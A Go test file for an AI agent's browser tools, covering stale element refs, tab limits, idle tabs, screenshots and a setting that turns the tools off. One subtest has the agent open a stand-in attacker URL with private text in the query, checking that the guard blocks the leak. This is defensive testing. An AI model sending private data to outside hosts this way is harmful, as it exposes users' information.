package tools

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/outboundhq/outbound/guard"
)

// TestBrowserRefsAndTabs: refs are valid for one answer only; tabs are
// one per conversation, bounded, closed when idle, and gone with the
// setting.
func TestBrowserRefsAndTabs(t *testing.T) {
	e, _ := newVendorEnv(t)
	reason := func(t *testing.T, res Result, want guard.Reason, says string) {
		t.Helper()
		if res.OK() || res.Refusal.Reason != want || !strings.Contains(res.Text, says) {
			t.Fatalf("want %s saying %q, got:\n%s", want, says, res.Text)
		}
	}

	t.Run("stale and unknown refs", func(t *testing.T) {
		a := e.agent(t, "refs")
		a.open("http://shop.example.com/links")
		home := a.ref("Home")
		a.read()
		reason(t, a.click(home), ReasonStaleRef, "is from an earlier answer")
		reason(t, a.click("e9999"), ReasonStaleRef, "There is no e9999 on the page")
		reason(t, a.click("Home"), ReasonStaleRef, "is not a ref")
		if !strings.Contains(a.last.Text, "Fix: Call browser_read for the page as it is now") {
			t.Fatalf("the fix:\n%s", a.last.Text)
		}
		if res := a.click(a.ref("Home")); !res.OK() || !strings.Contains(res.Text, "Title: Acme Status Shop") {
			t.Fatalf("a current ref:\n%s", res.Text)
		}
	})

	t.Run("an element removed by script", func(t *testing.T) {
		a := e.agent(t, "vanish")
		a.open("http://shop.example.com/vanish")
		gone := a.ref("Soon gone")
		time.Sleep(2 * time.Second) // the page removes it after 1.5s
		reason(t, a.click(gone), ReasonStaleRef, "no longer on the page: a script removed or replaced it")
		reason(t, a.typeIn(a.ref("Remove"), "x"), ReasonNotAField, "takes no typing")
	})

	t.Run("no tab, no thread, another site", func(t *testing.T) {
		reason(t, e.agent(t, "fresh").read(), ReasonNoTab, "Open a page with browser_open first")
		reason(t, e.agent(t, "").open("http://shop.example.com/"), ReasonBadParams, `"thread"`)
		a := e.agent(t, "site")
		a.open("http://shop.example.com/")
		reason(t, a.open("http://evil.example.net/?q="+privateText), ReasonOtherSite, "ask the person to start a new conversation")
		// The same thread under another agent is another conversation.
		other := &agent{t: t, e: e, turn: Turn{Agent: "other-bot", Thread: "site"}}
		if res := other.open("http://evil.example.net/"); !res.OK() {
			t.Fatalf("another agent's conversation: %s", res.Text)
		}
		if hits := e.evil.Hits(); len(hits) != 1 || !strings.HasPrefix(hits[0], "GET evil.example.net/ ") {
			t.Fatalf("the other site saw %q", hits)
		}
	})

	t.Run("take_screenshot of the tab", func(t *testing.T) {
		a := e.agent(t, "shot")
		a.open("http://shop.example.com/list")
		res := a.call(TakeScreenshotName, map[string]any{"tab": true})
		if !res.OK() || len(res.PNG) == 0 || !strings.Contains(res.Text, "http://shop.example.com/list") {
			t.Fatalf("the tab's screenshot: %s", res.Text)
		}
		if res := e.agent(t, "no-tab-shot").call(TakeScreenshotName, map[string]any{"tab": true}); res.OK() || res.Refusal.Reason != ReasonNoTab {
			t.Fatalf("a screenshot of no tab: %s", res.Text)
		}
		if res := a.call(TakeScreenshotName, map[string]any{"tab": true, "url": "http://shop.example.com/"}); res.OK() || !res.InputError() {
			t.Fatalf("url and tab: %s", res.Text)
		}
	})

	t.Run("too many conversations", func(t *testing.T) {
		live := e.tabs.Live()
		e.settings(func(s *Settings) { s.BrowserContexts = live })
		defer e.settings(func(s *Settings) { s.BrowserContexts = 32 })
		reason(t, e.agent(t, "one-too-many").open("http://shop.example.com/"), ReasonTabsFull, "Try again in 10 minutes")
		if e.tabs.Live() != live {
			t.Fatalf("%d tabs, want %d", e.tabs.Live(), live)
		}
	})

	t.Run("idle tabs close", func(t *testing.T) {
		e.settings(func(s *Settings) { s.BrowserIdle = time.Second })
		defer e.settings(func(s *Settings) { s.BrowserIdle = 10 * time.Minute })
		a := e.agent(t, "idle")
		a.open("http://shop.example.com/")
		deadline := time.Now().Add(15 * time.Second)
		for slices.Contains(e.tabs.sortedKeys(), "helpdesk-bot/idle") {
			if time.Now().After(deadline) {
				t.Fatal("the idle tab stayed open")
			}
			time.Sleep(100 * time.Millisecond)
		}
		reason(t, a.read(), ReasonNoTab, "closed after 1s without a call")
	})

	t.Run("the setting turns the tools off", func(t *testing.T) {
		a := e.agent(t, "off")
		a.open("http://shop.example.com/")
		e.settings(func(s *Settings) { s.Browser = BrowserOff })
		defer e.settings(func(s *Settings) { s.Browser = BrowserConfirm })
		if slices.Contains(e.reg.Names(), BrowserOpenName) {
			t.Fatalf("offered while off: %v", e.reg.Names())
		}
		reason(t, a.read(), ReasonBrowserOff, "turned off")
		deadline := time.Now().Add(5 * time.Second)
		for e.tabs.Live() != 0 {
			if time.Now().After(deadline) {
				t.Fatalf("%d tabs stay open with the tools off", e.tabs.Live())
			}
			time.Sleep(100 * time.Millisecond)
		}
	})
}
